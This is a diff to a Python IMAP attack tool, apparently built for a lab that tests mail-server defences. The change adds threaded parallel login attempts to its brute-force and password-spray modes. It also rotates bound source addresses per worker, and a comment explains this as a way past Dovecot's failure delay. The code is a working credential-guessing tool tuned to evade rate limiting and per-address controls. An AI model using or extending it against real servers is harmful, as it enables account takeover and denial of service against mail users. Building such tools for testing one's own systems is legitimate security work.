@@ -14,7 +14,8 @@ Subcommands print ONE line:
   flood   attempts=N connected=N refused=N timeout=N error=N
 
 --source binds the local address before connecting, so one attacker
-namespace can act as many addresses (a comma list is used round-robin).
+namespace can act as many addresses: a comma list is used round-robin
+(per connection).
 The client speaks just enough IMAP itself (greeting, STARTTLS, LOGIN or
 AUTHENTICATE PLAIN, LOGOUT) so every step runs under one per-attempt
 deadline. Certificates are not verified: the lab's is self-signed.
@@ -22,6 +23,7 @@ Python 3 standard library only.
 """
 import argparse
 import base64
+import concurrent.futures
 import errno
 import selectors
 import socket
@@ -169,18 +171,19 @@ def sources(arg):
     return [s for s in (arg or "").split(",") if s] or [None]
 
 
-def attempts(args, creds):
-    """Run (user, password) attempts, args.per_connection per connection.
-    Returns the brute/spray summary dict."""
+def run_creds(args, creds, srcs):
+    """Try (user, password) pairs in order, args.per_connection of them per
+    connection, each connection from the next of srcs. A connection that fails costs one attempt; an attempt whose
+    connection dies is counted by how it died. Stops at a successful login.
+    Returns a summary dict."""
     res = dict.fromkeys(BRUTE_KEYS, 0)
-    srcs = sources(args.source)
-    i = conn_no = 0
+    i = n = 0
     while i < len(creds):
-        src = srcs[conn_no % len(srcs)]
-        conn_no += 1
+        src = srcs[n % len(srcs)]
+        n += 1
         try:
             c = Conn(args.host, args.port, src, args.timeout, args.tls, args.starttls)
-        except Exception as e:  # the connection failed: that costs one attempt
+        except Exception as e:
             res[os_result(e).word] += 1
             res["attempts"] += 1
             i += 1
@@ -196,14 +199,34 @@ def attempts(args, creds):
                 word = c.login(user, password, args.mech)
                 res["failed" if word == "auth-failed" else word] += 1
                 if word == "ok":
-                    break  # logged in: no more LOGIN on this connection
+                    return res
                 if args.interval:
                     time.sleep(args.interval)
-        except Exception as e:  # this attempt died with its connection
+        except Exception as e:
             res[os_result(e).word] += 1
         finally:
             c.close(logout=True)
     return res
+
+
+def attempts(args, creds):
+    """Split creds and sources over --parallel workers (round-robin) and add
+    up their summaries. Dovecot answers a
+    failure only on its next 500 ms tick, so parallel workers are the way
+    to a fast brute force."""
+    srcs = sources(args.source)
+    n = max(1, min(args.parallel, len(creds)))
+    shares = [(creds[w::n], srcs[w::n] or [srcs[w % len(srcs)]]) for w in range(n)]
+    if n == 1:
+        results = [run_creds(args, *shares[0])]
+    else:
+        with concurrent.futures.ThreadPoolExecutor(n) as pool:
+            results = list(pool.map(lambda sh: run_creds(args, *sh), shares))
+    total = dict.fromkeys(BRUTE_KEYS, 0)
+    for r in results:
+        for k in BRUTE_KEYS:
+            total[k] += r[k]
+    return total
 
 
 def summary(res, keys):
@@ -333,6 +356,8 @@ def main():
     sp.add_argument("--per-connection", type=int, default=1)
     sp.add_argument("--interval", type=float, default=0.0,
                     help="seconds between attempts")
+    sp.add_argument("--parallel", type=int, default=1,
+                    help="concurrent connections (sources rotate per worker)")
     sp.set_defaults(func=cmd_brute)
 
     sp = sub.add_parser("spray", help="one password against many users")
@@ -341,6 +366,7 @@ def main():
     sp.add_argument("--password", required=True)
     sp.add_argument("--per-connection", type=int, default=1)
     sp.add_argument("--interval", type=float, default=0.0)
+    sp.add_argument("--parallel", type=int, default=1)
     sp.set_defaults(func=cmd_spray)
 
     sp = sub.add_parser("flood", help="COUNT TCP connects over SECONDS")
